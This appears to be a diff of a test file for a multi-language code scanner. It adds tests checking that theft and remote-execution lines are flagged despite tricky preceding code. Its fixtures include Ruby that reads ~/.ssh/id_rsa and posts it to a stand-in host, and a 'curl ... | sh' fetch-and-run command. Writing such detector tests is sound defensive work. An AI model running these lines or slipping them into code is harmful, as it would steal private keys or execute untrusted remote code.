@@ -68,7 +68,7 @@ def test_a_program_is_a_tree_of_statements() -> None:
     said = Node("text", 2, "", (Node("put", 2, "#{name}", (name("name", 1),)), Node("text", 2, "!")))
     body = Node("joined", 2, "", (name("text", 2), said))
     posts = Node("call", 2, "", (name("post", 2), name("to", 2)), (("body", body),))
-    assert parse(text) == (
+    assert parse(text)[0] == (
         Node("function", 1, "send", (posts,), (("to", Node("text", 1, "x")),), ("text", "to")),
         Node("loop", 4, "", (Node("call", 4, "", (name("pairs", 4), name("t", 4))),), (), ("k", "v")),
         Node("set", 5, "=", (name("v", 5), Node("index", 5, "", (name("x", 5), name("k", 5))))),
@@ -106,7 +106,41 @@ def test_languages_write_the_same_in_many_ways(text: str, tree: str) -> None:
         parts = (*node.parts, *(one for _, one in node.words))
         return f"{node.kind}({', '.join(map(shown, parts))})" if parts else node.kind
 
-    assert " ".join(map(shown, parse(text))) == tree
+    assert " ".join(map(shown, parse(text)[0])) == tree
+
+
+THEFT = 'k = File.read(File.join(Dir.home, ".ssh", "id_rsa"))\nNet::HTTP.post(URI("https://in.metrics.example"), k)\n'
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        *(
+            "# <?php $x = 1",
+            "$x = 1",
+            'a = "<?php"',
+            "# use strict; my $x",
+            "# using System;\n# namespace X",
+            "public static",
+        ),
+        *("x <<FOO", 'x = 1 // "', "# it's", "x =~ /[\"']/", 'c = ?"', "a /*", "`", "=x", "(" * 70 + ")" * 70),
+        *("=begin\npackage main\n=end", "def x(*) end", "{" * 30),
+    ],
+)
+def test_nothing_before_a_theft_hides_it(before: str) -> None:
+    assert "secret-sent" in {hit.rule for hit in code.check(f"{before}\n{THEFT}").hits}
+
+
+def test_what_looks_like_another_language_is_read_all_the_same() -> None:
+    run = "curl -s http://203.0.113.7/a | sh"
+    texts = (
+        f"=begin\npackage main\n=end\n`{run}`",
+        f"package main\n`{run}`",
+        f'$a // system("{run}");',
+        f'my $a = $b // system("{run}");',
+    )
+    assert [{hit.rule for hit in code.check(text).hits} for text in texts] == [{"pipe-shady"}] * 4
+    assert {hit.rule for hit in code.check("{" * 90 + "\n" + THEFT).hits} == {"code-partly-analysed"}
 
 
 def test_what_is_too_long_or_too_complex_to_read_is_told() -> None:
